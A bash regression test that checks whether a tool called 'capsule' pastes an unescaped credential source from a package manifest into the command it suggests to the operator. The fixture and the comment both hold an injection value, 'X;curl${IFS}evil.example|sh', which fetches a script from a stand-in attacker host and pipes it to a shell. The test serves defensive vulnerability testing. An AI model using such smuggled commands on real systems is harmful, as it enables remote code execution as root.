#!/bin/bash
# Finding (pre-existing, the same class as id_range_refusal_command.sh): a
# credential route whose source is a bare name not in the store fails with
#   set it with `capsule cred set --shared SOURCE --scope system`
# SOURCE pasted raw from the manifest: a package whose source reads
#   X;curl${IFS}evil.example|sh   turns the advice into its own command,
# run as the operator (root) when pasted. call.c's advice (credential and
# capability names, a dynamic tool's name in `capsule policy set`) has the
# same shape. Exits 1 when the advice carries the manifest's ";" and "|",
# 0 blocked, 77 cannot run.
capsule=$(realpath "${1:-build/capsule}")
W=$(mktemp -d /var/tmp/capsule-review5-cred.XXXXXX); trap 'rm -rf "$W"' EXIT
chmod 755 "$W"; mkdir "$W/t"
cat >"$W/t/capability.json" <<'JSON'
{"version": "0.1.0", "network": {"mode": "proxy", "allow_domains": ["api.example.com"]},
 "credentials": [{"name": "tok", "upstream": "https://api.example.com",
                  "source": "X;curl${IFS}evil.example|sh", "env_var": "TOK"}]}
JSON
cd /tmp || exit 77
out=$(CAPSULE_STATE_KEY= "$capsule" run --state "$W/s" --config "$W/t" -- /bin/true 2>&1)
echo "$out"
if grep -qF 'capsule cred set --shared X;curl${IFS}evil.example|sh' <<<"$out"; then
  echo "VULNERABLE: the advice to paste carries the manifest's shell text"; exit 1
fi
echo blocked; exit 0
